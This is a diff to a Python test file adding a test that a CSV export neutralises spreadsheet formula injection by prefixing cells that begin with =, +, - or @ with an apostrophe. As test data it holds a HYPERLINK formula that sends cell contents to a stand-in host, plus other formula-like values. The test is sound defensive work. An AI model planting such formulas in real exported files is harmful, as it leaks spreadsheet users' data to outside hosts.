@@ -308,6 +308,38 @@ async def test_out_dash_writes_the_events_to_stdout_and_the_count_to_stderr(
     assert all(name.startswith("events.db") for name in files_in(tmp_path))  # no file made
 
 
+#: A formula a spreadsheet runs as the file is opened (CSV injection, OWASP).
+LINK = '=HYPERLINK("https://example.com/?leak="&A1,"open")'
+
+
+async def test_csv_quotes_text_a_spreadsheet_would_run_as_a_formula_and_not_numbers(
+    outputs: EventOutputs, tmp_path: Path, capfd: pytest.CaptureFixture[str]
+) -> None:
+    """A stream id, zone or line name someone typed, or a class name from a custom model, went into the CSV as
+    it was: one beginning with ``=``, ``+``, ``-`` or ``@`` ran as a formula in Excel or LibreOffice."""
+    # Given events whose zone, line, class and stream were named like formulas, and fields that are negative numbers
+    entered = {"type": "zone_enter", "v": 1, "id": 7, "class_id": 0, "class": "+person", "zone": LINK}
+    crossed = {"type": "line_cross", "v": 1, "id": -3, "class": "@SUM(1+1)", "line": "\tgate", "direction": "in"}
+    history = await store(
+        outputs,
+        with_events(1, [{**entered, "time": T0, "media_time": -2.5}], stream_id="-door"),
+        with_events(2, [{**crossed, "time": T0 + 1.0, "media_time": 1.0, "heading": "=1+1"}], stream_id="-door"),
+    )
+    out = tmp_path / "events.csv"
+
+    # When the history is exported as CSV
+    exited = export(capfd, str(out), "--history", str(history.settings.path))
+
+    # Then each text cell that begins as a formula does is written with a ' before it
+    assert exited.code == 0, exited.err
+    enter, cross = csv_rows(out.read_text(encoding="utf-8"))
+    assert (enter["zone"], enter["class"], enter["stream"]) == (f"'{LINK}", "'+person", "'-door")
+    assert (cross["class"], cross["line"], cross["direction"]) == ("'@SUM(1+1)", "'\tgate", "in")
+    # And numbers, negative ones too, are numbers; JSON in data begins with { whatever it holds
+    assert (enter["media_time_s"], cross["track_id"], enter["class_id"]) == ("-2.5", "-3", "0")
+    assert cross["data"] == '{"heading":"=1+1"}'
+
+
 @contextmanager
 def umask(mask: int) -> Iterator[None]:
     previous = os.umask(mask)
